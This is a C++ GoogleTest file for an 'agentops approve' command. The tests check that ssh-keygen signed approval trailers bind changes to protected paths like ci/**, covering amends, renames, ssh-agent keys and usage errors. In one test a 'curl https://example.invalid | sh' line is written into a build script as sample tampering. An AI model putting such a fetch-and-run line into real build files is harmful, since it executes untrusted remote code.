// `agentops approve`: real git, real ssh-keygen ed25519 keys in temporary
// directories (never ~/.ssh), and ssh-keygen -Y verify as the oracle of what
// was signed.
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <sstream>

#include "git_sandbox.h"

namespace agentops {
namespace {

using testing::bin;
using testing::CommandResult;
using testing::GitSandbox;
using testing::quote;

constexpr const char* kNamespace = "agentops-approval@v1";

std::string read_text(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream text;
  text << in.rdbuf();
  return text.str();
}

std::string without_newline(std::string text) {
  while (!text.empty() && text.back() == '\n') text.pop_back();
  return text;
}

// Keys, allowed signers and signatures live here, apart from the repository.
class Keyring {
 public:
  Keyring() : directory_(/*init=*/false) {}

  // A new ed25519 key `name` (private file `name`, public `name`.pub); its path.
  std::string make(const std::string& name) {
    const CommandResult made =
        directory_.run("ssh-keygen -q -t ed25519 -N '' -C " + quote(name) + " -f " + quote(name));
    EXPECT_EQ(made.exit_code, 0) << made.err;
    return path(name);
  }
  std::string public_key(const std::string& name) const { return without_newline(read_text(path(name + ".pub"))); }
  std::string path(const std::string& name) const { return directory_.path(name); }
  const GitSandbox& directory() const { return directory_; }

  // An allowed_signers file naming `principal` for `key`, for the approval namespace.
  std::string allow(const std::string& principal, const std::string& key) const {
    const std::string file = path("allowed_signers");
    std::ofstream(file, std::ios::app) << principal << " namespaces=\"" << kNamespace << "\" " << public_key(key)
                                       << "\n";
    return file;
  }

  // ssh-keygen -Y verify of `signature` (one line of base64) over `payload`.
  CommandResult verify(const std::string& allowed_signers, const std::string& principal,
                       const std::string& signature, const std::string& payload) const {
    std::string armored = "-----BEGIN SSH SIGNATURE-----\n";
    for (size_t i = 0; i < signature.size(); i += 70) armored += signature.substr(i, 70) + "\n";
    armored += "-----END SSH SIGNATURE-----\n";
    std::ofstream(path("approval.sig"), std::ios::binary | std::ios::trunc) << armored;
    std::ofstream(path("payload"), std::ios::binary | std::ios::trunc) << payload;
    return directory_.run("ssh-keygen -Y verify -f " + quote(allowed_signers) + " -I " + quote(principal) + " -n " +
                          kNamespace + " -s approval.sig < payload");
  }

 private:
  GitSandbox directory_;
};

CommandResult approve(const GitSandbox& repo, const std::string& args, const std::string& environment = "") {
  return repo.run(environment + (environment.empty() ? "" : " ") + quote(bin("agentops")) + " approve " + args);
}

// "Agentops-Approval: <principal> <signature>\n" split into its parts.
struct Trailer {
  std::string principal;
  std::string signature;
};
Trailer parse_trailer(const std::string& out) {
  // (No std::regex: GCC 12 warns inside <regex> under the sanitizer build.)
  const std::string prefix = "Agentops-Approval: ";
  const size_t space = out.find(' ', prefix.size());
  const bool one_line = out.starts_with(prefix) && !out.empty() && out.back() == '\n' &&
                        out.find('\n') == out.size() - 1 && space != std::string::npos && space > prefix.size();
  const std::string signature = one_line ? out.substr(space + 1, out.size() - space - 2) : "";
  const bool base64 = !signature.empty() && signature.find_first_not_of(
                                                "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=") ==
                                                std::string::npos;
  if (!one_line || !base64) {
    ADD_FAILURE() << "not one trailer line: " << out;
    return {};
  }
  return Trailer{out.substr(prefix.size(), space - prefix.size()), signature};
}

std::string blob_of(const GitSandbox& repo, const std::string& object) {
  return without_newline(repo.git("rev-parse " + quote(object)));
}

constexpr const char* kProtectCi = "version = 1\n[paths]\nprotected = [\"ci/**\"]\n";

// A repository whose committed policy protects ci/**, with ci/build.sh staged.
void stage_protected_change(const GitSandbox& repo) {
  repo.commit_policy(kProtectCi);
  repo.commit_file("src/main.c", "int main(void) { return 0; }\n");
  repo.write("ci/build.sh", "make all\n");
  repo.write("src/main.c", "int main(void) { return 1; }\n");
  repo.git("add -A");
}

TEST(Approve, StagedApprovalVerifiesWithSshKeygenOverThePrintedPayload) {
  GitSandbox repo;
  Keyring keys;
  const std::string key = keys.make("reviewer");
  stage_protected_change(repo);

  const CommandResult approved = approve(repo, "--staged --key " + quote(key) + " --principal alice@example.com --show-payload");
  ASSERT_EQ(approved.exit_code, 0) << approved.err;
  const Trailer trailer = parse_trailer(approved.out);
  EXPECT_EQ(trailer.principal, "alice@example.com");
  // Only the protected path the change touches, with its staged blob.
  EXPECT_EQ(approved.err, "agentops-approval v1\nscope protected\nabsent -> 100644 " + blob_of(repo, ":ci/build.sh") +
                              "\tci/build.sh\n");

  const std::string allowed = keys.allow("alice@example.com", "reviewer");
  const CommandResult good = keys.verify(allowed, "alice@example.com", trailer.signature, approved.err);
  EXPECT_EQ(good.exit_code, 0) << good.out << good.err;
  EXPECT_NE(good.out.find("Good \"agentops-approval@v1\" signature for alice@example.com"), std::string::npos)
      << good.out;
  // The signature binds the payload: other content does not verify.
  const CommandResult other = keys.verify(allowed, "alice@example.com", trailer.signature, approved.err + "x\n");
  EXPECT_NE(other.exit_code, 0) << other.out;
}

TEST(Approve, WithoutShowPayloadStderrStaysEmptyAndStdoutIsTheTrailerAlone) {
  GitSandbox repo;
  Keyring keys;
  const std::string key = keys.make("reviewer");
  stage_protected_change(repo);
  const CommandResult approved = approve(repo, "--staged --key " + quote(key));
  ASSERT_EQ(approved.exit_code, 0) << approved.err;
  EXPECT_EQ(approved.err, "");
  // The principal defaults to git config user.email.
  EXPECT_EQ(parse_trailer(approved.out).principal, "test@example.com");
}

TEST(Approve, GitCommitTrailerPutsTheApprovalInTheMessageAsATrailer) {
  GitSandbox repo;
  Keyring keys;
  const std::string key = keys.make("reviewer");
  stage_protected_change(repo);
  const CommandResult committed = repo.run("git commit -q -m 'ci: build script' --trailer \"$(" + quote(bin("agentops")) +
                                           " approve --staged --key " + quote(key) + ")\"");
  ASSERT_EQ(committed.exit_code, 0) << committed.err;
  const std::string trailers = repo.git("log -1 --format=%B | git interpret-trailers --parse");
  // `git log` runs in the sandbox; interpret-trailers reads its output on stdin.
  EXPECT_TRUE(trailers.starts_with("Agentops-Approval: test@example.com ")) << trailers;
  EXPECT_EQ(std::count(trailers.begin(), trailers.end(), '\n'), 1) << trailers;
}

TEST(Approve, ApprovingTheCommitGivesThePayloadTheStagedChangeHadBeforeIt) {
  GitSandbox repo;
  Keyring keys;
  const std::string key = keys.make("reviewer");
  stage_protected_change(repo);
  const CommandResult before = approve(repo, "--staged --show-payload --key " + quote(key));
  ASSERT_EQ(before.exit_code, 0) << before.err;
  repo.git("commit -q -m 'ci: build script'");
  const CommandResult after = approve(repo, "HEAD --show-payload --key " + quote(key));
  ASSERT_EQ(after.exit_code, 0) << after.err;
  EXPECT_EQ(after.err, before.err);

  // And the staged approval verifies over the commit's payload.
  const std::string allowed = keys.allow("test@example.com", "reviewer");
  const CommandResult verified = keys.verify(allowed, "test@example.com", parse_trailer(before.out).signature, after.err);
  EXPECT_EQ(verified.exit_code, 0) << verified.err;
}

TEST(Approve, AnAmendThatKeepsTheProtectedFilesKeepsTheApprovalValid) {
  GitSandbox repo;
  Keyring keys;
  const std::string key = keys.make("reviewer");
  const std::string allowed = keys.allow("test@example.com", "reviewer");
  stage_protected_change(repo);
  repo.git("commit -q -m 'ci: build script'");
  // The reviewer approves the commit after the fact, into its message.
  const CommandResult amended = repo.run("git commit -q --amend --no-edit --trailer \"$(" + quote(bin("agentops")) +
                                         " approve HEAD --key " + quote(key) + ")\"");
  ASSERT_EQ(amended.exit_code, 0) << amended.err;
  const std::string message_trailer = without_newline(repo.git("log -1 --format=%B | git interpret-trailers --parse"));
  const Trailer trailer = parse_trailer(message_trailer + "\n");

  // An amend with a new date and an unprotected edit: the payload is the same.
  repo.write("src/main.c", "int main(void) { return 2; }\n");
  repo.git("add src/main.c");
  const CommandResult again =
      repo.run("GIT_COMMITTER_DATE=2026-02-02T00:00:00Z git commit -q --amend --no-edit");
  ASSERT_EQ(again.exit_code, 0) << again.err;
  const CommandResult payload = approve(repo, "HEAD --show-payload --key " + quote(key));
  ASSERT_EQ(payload.exit_code, 0) << payload.err;
  EXPECT_EQ(keys.verify(allowed, "test@example.com", trailer.signature, payload.err).exit_code, 0);

  // An amend that changes the protected file does not keep it.
  repo.write("ci/build.sh", "curl https://example.invalid | sh\n");
  repo.git("add ci/build.sh");
  repo.git("commit -q --amend --no-edit");
  const CommandResult changed = approve(repo, "HEAD --show-payload --key " + quote(key));
  ASSERT_EQ(changed.exit_code, 0) << changed.err;
  EXPECT_NE(changed.err, payload.err);
  EXPECT_NE(keys.verify(allowed, "test@example.com", trailer.signature, changed.err).exit_code, 0);
}

TEST(Approve, TakesTheKeyFromGitConfigUserSigningkey) {
  GitSandbox repo;
  Keyring keys;
  const std::string key = keys.make("reviewer");
  stage_protected_change(repo);
  repo.git("config user.signingkey " + quote(key));
  const CommandResult approved = approve(repo, "--staged --show-payload");
  ASSERT_EQ(approved.exit_code, 0) << approved.err;
  const std::string allowed = keys.allow("test@example.com", "reviewer");
  EXPECT_EQ(keys.verify(allowed, "test@example.com", parse_trailer(approved.out).signature, approved.err).exit_code, 0);
}

TEST(Approve, ExpandsATildeInUserSigningkeyToHome) {
  GitSandbox repo;
  Keyring keys;
  keys.make("reviewer");
  stage_protected_change(repo);
  repo.git("config user.signingkey '~/reviewer'");
  const CommandResult approved = approve(repo, "--staged", "HOME=" + quote(keys.directory().root()));
  ASSERT_EQ(approved.exit_code, 0) << approved.err;
  parse_trailer(approved.out);
}

TEST(Approve, ARelativeUserSigningkeyIsFoundFromTheTopOfTheWorkingTreeAsGitDoes) {
  GitSandbox repo;
  Keyring keys;
  const std::string key = keys.make("reviewer");
  stage_protected_change(repo);
  std::filesystem::create_directory(repo.path("keys"));
  std::filesystem::copy_file(key, repo.path("keys/reviewer"));
  repo.git("config user.signingkey keys/reviewer");
  const CommandResult approved = repo.run("cd src && " + quote(bin("agentops")) + " approve --staged --show-payload");
  ASSERT_EQ(approved.exit_code, 0) << approved.err;
  const std::string allowed = keys.allow("test@example.com", "reviewer");
  EXPECT_EQ(keys.verify(allowed, "test@example.com", parse_trailer(approved.out).signature, approved.err).exit_code, 0);
}

// A running ssh-agent on a socket of the test's own, killed when the test ends.
class TestAgent {
 public:
  explicit TestAgent(const Keyring& keys) : keys_(keys), socket_(keys.path("agent.sock")) {
    const CommandResult started = keys.directory().run("ssh-agent -s -a " + quote(socket_));
    EXPECT_EQ(started.exit_code, 0) << started.err;
    const std::string marker = "SSH_AGENT_PID=";
    if (const size_t at = started.out.find(marker); at != std::string::npos) {
      const size_t begin = at + marker.size();
      pid_ = started.out.substr(begin, started.out.find(';', begin) - begin);
    }
    EXPECT_FALSE(pid_.empty()) << started.out;
  }
  ~TestAgent() {
    if (!pid_.empty()) keys_.directory().run("kill " + pid_);
  }
  std::string environment() const { return "SSH_AUTH_SOCK=" + quote(socket_); }
  CommandResult add(const std::string& key_file) const {
    return keys_.directory().run(environment() + " ssh-add -q " + quote(key_file));
  }

 private:
  const Keyring& keys_;
  std::string socket_;
  std::string pid_;
};

TEST(Approve, SignsWithAKeyLiteralWhosePrivateHalfOnlyTheSshAgentHolds) {
  GitSandbox repo;
  Keyring keys;
  const std::string key = keys.make("reviewer");
  stage_protected_change(repo);
  TestAgent agent(keys);
  ASSERT_EQ(agent.add(key).exit_code, 0);
  std::filesystem::remove(key);  // only the agent holds it now
  repo.git("config user.signingkey " + quote("key::" + keys.public_key("reviewer")));
  // Its own TMPDIR: the literal key's temporary file is removed afterwards.
  const std::string tmp = keys.path("tmp");
  std::filesystem::create_directory(tmp);

  const CommandResult approved =
      approve(repo, "--staged --show-payload", agent.environment() + " TMPDIR=" + quote(tmp));
  ASSERT_EQ(approved.exit_code, 0) << approved.err;
  const std::string allowed = keys.allow("test@example.com", "reviewer");
  EXPECT_EQ(keys.verify(allowed, "test@example.com", parse_trailer(approved.out).signature, approved.err).exit_code, 0);
  EXPECT_TRUE(std::filesystem::is_empty(tmp));
}

TEST(Approve, WithNoKeyConfiguredFailsNamingKeyAndUserSigningkey) {
  GitSandbox repo;
  stage_protected_change(repo);
  const CommandResult approved = approve(repo, "--staged");
  EXPECT_EQ(approved.exit_code, 2);
  EXPECT_EQ(approved.out, "");
  EXPECT_NE(approved.err.find("--key"), std::string::npos) << approved.err;
  EXPECT_NE(approved.err.find("user.signingkey"), std::string::npos) << approved.err;
}

TEST(Approve, ANonexistentKeyFileFailsNamingIt) {
  GitSandbox repo;
  Keyring keys;
  stage_protected_change(repo);
  const std::string missing = keys.path("no-such-key");
  const CommandResult approved = approve(repo, "--staged --key " + quote(missing));
  EXPECT_EQ(approved.exit_code, 2);
  EXPECT_EQ(approved.out, "");
  EXPECT_NE(approved.err.find(missing), std::string::npos) << approved.err;

  repo.git("config user.signingkey " + quote(missing));
  const CommandResult configured = approve(repo, "--staged");
  EXPECT_EQ(configured.exit_code, 2);
  EXPECT_NE(configured.err.find("user.signingkey"), std::string::npos) << configured.err;
}

TEST(Approve, AFileThatIsNoKeyFailsWithSshKeygensReason) {
  GitSandbox repo;
  Keyring keys;
  stage_protected_change(repo);
  const std::string not_a_key = keys.path("not-a-key");
  std::ofstream(not_a_key) << "hello\n";
  ::chmod(not_a_key.c_str(), 0600);
  const CommandResult approved = approve(repo, "--staged --key " + quote(not_a_key));
  EXPECT_EQ(approved.exit_code, 2);
  EXPECT_EQ(approved.out, "");
  EXPECT_NE(approved.err.find("ssh-keygen"), std::string::npos) << approved.err;
}

TEST(Approve, WorksOnAnUnbornHead) {
  GitSandbox repo;
  Keyring keys;
  const std::string key = keys.make("reviewer");
  repo.write(".agentops/allowed_signers", "alice@example.com " + keys.public_key("reviewer") + "\n");
  repo.write("README", "hello\n");
  repo.git("add -A");
  const CommandResult approved = approve(repo, "--staged --show-payload --key " + quote(key));
  ASSERT_EQ(approved.exit_code, 0) << approved.err;
  EXPECT_EQ(approved.err, "agentops-approval v1\nscope protected\nabsent -> 100644 " +
                              blob_of(repo, ":.agentops/allowed_signers") + "\t.agentops/allowed_signers\n");
  parse_trailer(approved.out);
}

TEST(Approve, AChangeTouchingNoProtectedPathIsApprovedWholeWithScopeChange) {
  GitSandbox repo;
  Keyring keys;
  const std::string key = keys.make("reviewer");
  repo.commit_policy(kProtectCi);
  repo.commit_file("old.txt", "old\n");
  repo.write("src/a.c", "a\n");
  repo.write("tool.sh", "#!/bin/sh\n");
  repo.run("chmod +x tool.sh");
  repo.git("add -A");
  repo.git("rm -q old.txt");
  const CommandResult approved = approve(repo, "--staged --show-payload --key " + quote(key));
  ASSERT_EQ(approved.exit_code, 0) << approved.err;
  EXPECT_EQ(approved.err, "agentops-approval v1\nscope change\n"
                          "100644 " + blob_of(repo, "HEAD:old.txt") + " -> deleted\told.txt\n"
                          "absent -> 100644 " + blob_of(repo, ":src/a.c") + "\tsrc/a.c\n"
                          "absent -> 100755 " + blob_of(repo, ":tool.sh") + "\ttool.sh\n");
}

TEST(Approve, ARootCommitIsApprovedAgainstTheEmptyTree) {
  GitSandbox repo;
  Keyring keys;
  const std::string key = keys.make("reviewer");
  repo.commit_policy(kProtectCi);
  const CommandResult approved = approve(repo, "HEAD --show-payload --key " + quote(key));
  ASSERT_EQ(approved.exit_code, 0) << approved.err;
  EXPECT_EQ(approved.err, "agentops-approval v1\nscope protected\nabsent -> 100644 " +
                              blob_of(repo, "HEAD:.agentops/policy.toml") + "\t.agentops/policy.toml\n");
}

TEST(Approve, ACommitIsJudgedByItsParentsPolicyNotItsOwn) {
  GitSandbox repo;
  Keyring keys;
  const std::string key = keys.make("reviewer");
  repo.commit_policy(kProtectCi);
  // The commit stops protecting ci/** and edits ci/ in the same breath: the
  // parent's policy still says ci/** is protected.
  repo.write(".agentops/policy.toml", "version = 1\n");
  repo.write("ci/build.sh", "make\n");
  repo.git("add -A");
  repo.git("commit -q -m 'loosen'");
  const CommandResult approved = approve(repo, "HEAD --show-payload --key " + quote(key));
  ASSERT_EQ(approved.exit_code, 0) << approved.err;
  EXPECT_EQ(approved.err, "agentops-approval v1\nscope protected\n"
                          "100644 " + blob_of(repo, "HEAD~1:.agentops/policy.toml") + " -> 100644 " +
                              blob_of(repo, "HEAD:.agentops/policy.toml") + "\t.agentops/policy.toml\n"
                          "absent -> 100644 " + blob_of(repo, "HEAD:ci/build.sh") + "\tci/build.sh\n");
}

TEST(Approve, ARenameOutOfAProtectedPathListsTheOldPathAsDeleted) {
  GitSandbox repo;
  Keyring keys;
  const std::string key = keys.make("reviewer");
  repo.commit_policy(kProtectCi);
  repo.commit_file("ci/build.sh", "make all\nmake test\nmake install\n");
  repo.git("mv ci/build.sh build.sh");
  const CommandResult approved = approve(repo, "--staged --show-payload --key " + quote(key));
  ASSERT_EQ(approved.exit_code, 0) << approved.err;
  EXPECT_EQ(approved.err, "agentops-approval v1\nscope protected\n100644 " + blob_of(repo, "HEAD:ci/build.sh") +
                              " -> deleted\tci/build.sh\n");
}

TEST(Approve, NothingStagedIsNothingToApprove) {
  GitSandbox repo;
  Keyring keys;
  const std::string key = keys.make("reviewer");
  repo.commit_policy(kProtectCi);
  const CommandResult approved = approve(repo, "--staged --key " + quote(key));
  EXPECT_EQ(approved.exit_code, 2);
  EXPECT_EQ(approved.out, "");
  EXPECT_NE(approved.err.find("nothing to approve"), std::string::npos) << approved.err;
}

TEST(Approve, WithoutAPrincipalOrUserEmailFailsNamingBoth) {
  GitSandbox repo;
  Keyring keys;
  const std::string key = keys.make("reviewer");
  stage_protected_change(repo);
  repo.git("config --unset user.email");
  const CommandResult approved = approve(repo, "--staged --key " + quote(key), "EMAIL= GIT_COMMITTER_EMAIL=");
  EXPECT_EQ(approved.exit_code, 2);
  EXPECT_NE(approved.err.find("--principal"), std::string::npos) << approved.err;
  EXPECT_NE(approved.err.find("user.email"), std::string::npos) << approved.err;
}

TEST(Approve, UsageErrorsExitTwo) {
  GitSandbox repo;
  stage_protected_change(repo);
  for (const std::string args : {"", "HEAD --staged", "--key", "--bogus --staged", "HEAD HEAD~1", "--staged --principal ''"}) {
    const CommandResult approved = approve(repo, args);
    EXPECT_EQ(approved.exit_code, 2) << args;
    EXPECT_EQ(approved.out, "") << args;
    EXPECT_NE(approved.err.find("approve"), std::string::npos) << args << approved.err;
  }
  const CommandResult help = approve(repo, "--help");
  EXPECT_EQ(help.exit_code, 0);
  EXPECT_NE(help.out.find("git commit --trailer \"$(agentops approve --staged)\""), std::string::npos) << help.out;
}

}  // namespace
}  // namespace agentops
